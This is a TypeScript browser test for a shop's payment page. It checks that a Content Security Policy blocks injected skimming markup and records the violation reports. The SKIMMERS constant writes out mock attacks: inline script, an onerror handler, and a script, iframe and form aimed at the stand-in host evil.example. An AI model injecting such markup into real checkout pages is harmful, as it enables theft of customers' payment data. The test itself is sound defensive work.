import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { launchBrowser } from '../../../../test/browser.ts';
import { testDatabase } from '../../../../test/database.ts';
import { readFindings, readReports } from '../../../modules/pagewatch/index.ts';
import { aSearch } from '../testing/a-search.ts';
import { aServer } from '../testing/a-server.ts';
import { aShop, idIn } from '../testing/a-shop.ts';
import { aStreet } from '../testing/a-street.ts';
import { aTill } from '../testing/a-till.ts';
import { plainRenderer } from '../testing/plain-renderer.ts';
import { renderView } from '../view/index.ts';

const connection = await testDatabase();
const { db } = connection;
const browser = await launchBrowser();
after(() => browser.close());

type Violation = { readonly directive: string; readonly blocked: string };

const SKIMMERS = `<script>globalThis.skimmed = 'inline'</script>
<script src="https://evil.example/skim.js"></script>
<script src="/assets/skim.js"></script>
<img src="data:," onerror="globalThis.skimmed = 'handler'">
<iframe src="https://evil.example/fields"></iframe>
<form id="skim" method="post" action="https://evil.example/"></form>`;

test('a real browser runs nothing on the payment page that is not in the inventory, and says what it refused', async () => {
  const shop = await aShop(db, Temporal.Now.instant());
  await aTill(db);
  const renderer = { ...plainRenderer, renderView };
  const server = await aServer(connection, aSearch([]), { baseUrl: undefined, renderer });
  const street = await aStreet(server, {
    change: (sent, path) => {
      const isOurs = path === '/assets/checkout.js';
      if (isOurs) Object.assign(sent, { status: 200, body: 'globalThis.isOursRun = true' });
      if (isOurs || path === '/assets/skim.js') sent.headers['content-type'] = 'text/javascript';
      if (path === '/assets/skim.js')
        Object.assign(sent, { status: 200, body: "globalThis.skimmed = 'file'" });
      if (path === '/checkout') sent.body = sent.body.replace('</main>', `${SKIMMERS}</main>`);
    },
  });
  const context = await browser.newContext();
  await context.addInitScript(`
    globalThis.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      globalThis.violations.push({ directive: effectiveDirective, blocked: blockedURI }));`);
  const form = { do: 'add', variant: idIn(shop.variants, 'MUG'), quantity: '1' };
  const headers = { origin: street.baseUrl, 'sec-fetch-site': 'same-origin' };
  await context.request.post(`${street.baseUrl}/cart`, { form, headers });
  const page = await context.newPage();
  await page.goto(`${street.baseUrl}/checkout`);
  await page.evaluate("document.getElementById('skim').requestSubmit()");
  await page.waitForFunction('globalThis.violations.length >= 6');
  assert.equal(await page.evaluate('globalThis.skimmed'), undefined);
  assert.equal(await page.evaluate('globalThis.isOursRun'), true);
  const violations = await page.evaluate<Violation[]>('globalThis.violations');
  assert.deepEqual(
    violations
      .map(({ directive, blocked }) => `${directive} ${blocked.replace(street.baseUrl, '')}`)
      .toSorted(),
    [
      'form-action https://evil.example/',
      'frame-src https://evil.example',
      'script-src-attr inline',
      'script-src-elem /assets/skim.js',
      'script-src-elem https://evil.example/skim.js',
      'script-src-elem inline',
    ],
  );
  await report(street.baseUrl, violations);
  await context.close();
  await street.close();
  // What is not saved yet is saved when the server closes.
  await server.close();
  assert.equal((await readReports(db)).length, 6);
  const told = (await readFindings(db, { isOpen: true })).map(({ page: on, subject, is }) => [
    on,
    subject,
    is,
  ]);
  assert.ok(told.some((one) => one.join(' ') === '/checkout script-src-elem https://evil.example'));
});

/** As a browser sends them, which it does when it has the time: Chromium after up to a minute. */
async function report(baseUrl: string, violations: readonly Violation[]): Promise<void> {
  const body = violations.map(({ directive, blocked }) => ({
    type: 'csp-violation',
    body: { documentURL: `${baseUrl}/checkout`, effectiveDirective: directive, blockedURL: blocked },
  }));
  const { status } = await fetch(`${baseUrl}/reports/csp`, {
    method: 'POST',
    headers: { 'content-type': 'application/reports+json' },
    body: JSON.stringify(body),
  });
  assert.equal(status, 204);
}
